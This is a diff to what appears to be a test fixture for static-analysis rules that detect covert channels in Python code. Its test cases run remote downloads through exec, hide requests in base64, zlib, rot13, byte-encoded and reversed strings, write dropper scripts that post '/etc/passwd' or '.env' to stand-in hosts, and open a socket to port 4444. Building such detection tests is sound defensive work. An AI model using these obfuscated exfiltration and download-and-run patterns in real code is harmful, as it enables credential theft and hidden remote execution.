@@ -1,10 +1,16 @@
 """Fixture for covert channels (never executed)."""
 import base64
+import builtins
+import codecs
 import importlib
 import os
 import socket
+import runpy
 import subprocess
 import sys
+import types
+import zlib
+from pathlib import Path
 from subprocess import check_output as co
 from urllib.request import urlopen
 
@@ -194,6 +200,65 @@ payload = urlopen("https://203.0.113.5/stage3.py").read()
 exec(payload)
 # ok: covert.exec-download
 exec("print(1)")
+# ruleid: covert.exec-download
+exec(base64.b64decode(requests.get("https://203.0.113.5/stage4").content))
+blob = requests.get("https://203.0.113.5/stage5").content
+# ruleid: covert.exec-download
+exec(base64.b64decode(blob))
+
+# Code run from a string: the sends inside are reported at the exec, decoded.
+# ruleid: covert.exec-decoded host=203.0.113.5
+exec(base64.b64decode("aW1wb3J0IHJlcXVlc3RzOyByZXF1ZXN0cy5wb3N0KCJodHRwczovLzIwMy4wLjExMy41L2MiLCBkYXRhPW9wZW4oIi5lbnYiKS5yZWFkKCkp"))
+STAGE = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hQuXqAbn5Bal5GkoZJSUFxVb6+oaWFnqmhnqGBgZ65vpJqYnJ+XlKmlwARUsZ1g=="
+# ruleid: covert.exec-decoded host=198.51.100.7
+exec(zlib.decompress(base64.b64decode(STAGE)))
+# ruleid: covert.exec-decoded host=evil.example
+exec(codecs.decode('vzcbeg erdhrfgf\nerdhrfgf.trg("uggcf://rivy.rknzcyr/c")', "rot13"))
+# ruleid: covert.exec-decoded host=198.51.100.8
+exec(bytes(b"\x89\x94\x97\x96\x99\xa3@\xa2\x96\x83\x92\x85\xa3%\xa2\x96\x83\x92\x85\xa3K\x83\x99\x85\x81\xa3\x85m\x83\x96\x95\x95\x85\x83\xa3\x89\x96\x95MM\xfc\xf1\xf9\xf8K\xf5\xf1K\xf1\xf0\xf0K\xf8\xfck@\xf4\xf4\xf3]]").decode("cp1026"))
+# ruleid: covert.exec-decoded host=rev.example
+eval(')"x/elpmaxe.ver//:sptth"(tsop.stseuqer'[::-1])
+# ruleid: covert.exec-decoded
+eval("__import__('os').system('wget -q https://198.51.100.2/x')")
+# ruleid: covert.exec-decoded host=203.0.113.9
+vars(__builtins__)["eval"]("requests.get('https://203.0.113.9/v')")
+# ruleid: covert.exec-decoded host=203.0.113.10
+getattr(builtins, "exec")("requests.get('https://203.0.113.10/g')")
+# ruleid: covert.exec-decoded host=203.0.113.11
+__builtins__.__dict__["exec"]("requests.get('https://203.0.113.11/d')")
+# ruleid: covert.exec-decoded host=203.0.113.16
+vars(__builtins__).get("eval")("requests.get('https://203.0.113.16/g')")
+# ruleid: covert.exec-decoded host=203.0.113.12
+exec(compile("".join(["requests.", "get('https://203.0.113.12/j')"]), "<s>", "exec"))
+# ruleid: covert.exec-decoded host=203.0.113.14
+types.FunctionType(compile("requests.get('https://203.0.113.14/f')", "<f>", "exec"), globals())()
+LOADER_SRC = base64.b64decode("cmVxdWVzdHMuZ2V0KCJodHRwczovLzIwMy4wLjExMy4xNS9tIik=")
+spec = importlib.util.spec_from_loader("stage", loader=None)
+mod = importlib.util.module_from_spec(spec)
+# ruleid: covert.exec-decoded host=203.0.113.15
+exec(LOADER_SRC, mod.__dict__)
+# ok: covert.exec-decoded
+exec(base64.b64decode("cHJpbnQoMSk="))
+# ok: covert.exec-decoded
+eval("1 + 2")
+
+def dropper():
+    with open("/tmp/stage.py", "w") as f:
+        f.write("import requests\nrequests.post('https://203.0.113.13/up', data=open('/etc/passwd').read())\n")
+    # ruleid: covert.exec-written-file host=203.0.113.13
+    runpy.run_path("/tmp/stage.py")
+    # ruleid: covert.exec-written-file host=203.0.113.13
+    subprocess.run([sys.executable, "/tmp/stage.py"])
+    # ok: covert.exec-written-file
+    subprocess.run([sys.executable, "/tmp/other.py"])
+    # ruleid: covert.exec-decoded host=203.0.113.13
+    exec(open("/tmp/stage.py").read())
+
+
+def dropper_pathlib():
+    Path("/tmp/p2.py").write_text("import socket\nsocket.create_connection(('198.51.100.30', 4444))\n")
+    # ruleid: covert.exec-written-file host=198.51.100.30
+    runpy.run_path("/tmp/p2.py")
 
 # ruleid: covert.obfuscated-destination
 requests.post(base64.b64decode("aHR0cHM6Ly8yMDMuMC4xMTMuNS91").decode(), data=os.environ)
@@ -230,3 +295,11 @@ lib.connect(fd, sockaddr, len(sockaddr))
 libc.strlen(b"connect")
 # ok: covert.ffi-socket
 ffi.dlopen(None).sqrt(2.0)
+
+# Python code run through a command line: what it sends is reported at the call that runs it.
+# ruleid: covert.process-egress host=py-c.example.net
+subprocess.run([sys.executable, "-c", "import requests; requests.post('https://py-c.example.net/u', data=open('/etc/passwd').read())"])
+# ruleid: covert.process-egress host=bash-py.example.net
+os.system("bash -c \"python3 -c 'import urllib.request; urllib.request.urlopen(\\\"https://bash-py.example.net\\\")'\"")
+# ok: covert.process-egress
+subprocess.run([sys.executable, "-c", "print('hello')"])
